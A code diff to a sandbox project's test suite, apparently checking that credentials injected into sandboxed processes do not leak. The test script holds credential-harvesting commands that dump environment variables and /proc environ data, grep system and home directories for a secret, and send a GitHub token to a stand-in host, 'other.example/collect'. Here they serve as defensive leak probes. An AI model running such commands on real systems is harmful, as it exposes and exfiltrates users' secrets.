@@ -8,7 +8,7 @@ import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { CredentialInjector, findBwrap, SessionCa, type SandboxProfile } from '@conch/sandbox';
-import { presented, startStandIn, type StandIn } from '@conch/test-support/credentials';
+import { presented, readableFiles, startStandIn, type StandIn } from '@conch/test-support/credentials';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { ProcessManager } from './process-manager.js';
 import { survivors } from './test-support/procs.js';
@@ -123,7 +123,7 @@ describe.runIf((bwrap && curl) || process.env.CI)('credentials through the proce
     const script = [
       'echo "== env"; env',
       'echo "== proc"; for p in /proc/[0-9]*; do tr "\\0" "\\n" < $p/environ; tr "\\0" " " < $p/cmdline; echo; done 2>/dev/null',
-      'echo "== files"; grep -rlsF -e "$HALF_A$HALF_B" /run /tmp "$HOME" /etc; echo "files end"',
+      `echo "== files"; ${readableFiles('/run /tmp "$HOME" /etc')} | xargs -0r grep -lsF -e "$HALF_A$HALF_B"; echo "files end"`,
       `echo "== gh"; curl -sS -H "Authorization: token $GH_TOKEN" https://api.github.com:${port}/user`,
       // Another host: tunnelled untouched (its certificate is the stand-in's own, hence -k).
       `echo "== other"; curl -sSk -H "Authorization: token $GH_TOKEN" https://other.example:${port}/collect`,
